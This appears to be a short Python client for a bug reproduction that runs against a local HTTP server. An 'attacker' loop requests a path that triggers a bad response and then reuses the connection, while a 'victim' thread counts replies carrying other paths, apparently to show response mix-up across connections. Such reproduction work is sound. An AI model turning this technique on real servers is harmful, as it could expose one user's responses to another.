# the client of run.sh: a victim checking its answers, and an attacker
import http.client, threading, sys
def a():  # "attacker": triggers the bad member response, then one GET on the same conn
    for i in range(20):
        c = http.client.HTTPConnection('127.0.0.1', 18080); c.request('GET', '/bad204'); c.getresponse().read()
        c.request('GET', '/a%d' % i); c.getresponse().read(); c.close()
bad = 0
def b():  # victim: its own keep-alive connection, checks it gets its own path back
    global bad
    c = http.client.HTTPConnection('127.0.0.1', 18080)
    for i in range(3000):
        p = '/victim%d' % i; c.request('GET', p); r = c.getresponse(); d = r.read()
        if d != p.encode(): bad += 1; bad == 1 and print('victim asked', p, 'got', r.status, d)
t = threading.Thread(target=b); t.start(); a(); t.join(); print('victim wrong answers:', bad, '/ 3000')
